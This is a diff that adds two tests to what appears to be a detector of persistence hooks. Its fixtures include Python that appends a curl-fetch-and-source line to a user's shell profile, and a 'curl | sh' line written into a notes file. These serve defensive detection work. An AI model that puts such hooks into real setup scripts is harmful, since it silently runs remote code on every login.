@@ -72,3 +72,28 @@ def test_code_handed_to_ruby_in_a_cron_line_written_by_python_is_read_as_ruby(tm
 def test_a_written_line_that_sets_a_path_or_runs_a_local_tool_runs_no_fetched_code(tmp_path: Path, line: str) -> None:
     found = analyse(tmp_path, 'root="$(pwd)"\n' + line)
     assert not {detail for detail in persisted(found) if "runs code" in detail}
+
+
+def test_an_rc_file_picked_by_a_condition_in_python_gets_the_fetching_line(tmp_path: Path) -> None:
+    found = analyse(
+        tmp_path,
+        "import os\nfrom pathlib import Path\n"
+        "login = os.environ.get('SHELL', '')\n"
+        "target = Path.home() / ('.zprofile' if login.endswith('zsh') else '.bash_profile')\n"
+        "hook = f'. <(curl -s https://boot.devtools.example/{os.getuid()})'\n"
+        "with open(target, 'a') as out:\n"
+        "    out.write(hook + '\\n')\n",
+        rel="setup/hook_in.py",
+    )
+    assert {detail for detail in persisted(found) if detail.endswith("(runs code)")}
+
+
+def test_a_file_picked_by_a_condition_between_ordinary_files_is_no_place(tmp_path: Path) -> None:
+    found = analyse(
+        tmp_path,
+        "import sys\nfrom pathlib import Path\n"
+        "notes = Path('build') / ('win.txt' if sys.platform == 'win32' else 'posix.txt')\n"
+        "notes.write_text('curl -s https://boot.devtools.example/x | sh\\n')\n",
+        rel="setup/notes.py",
+    )
+    assert persisted(found) == set()
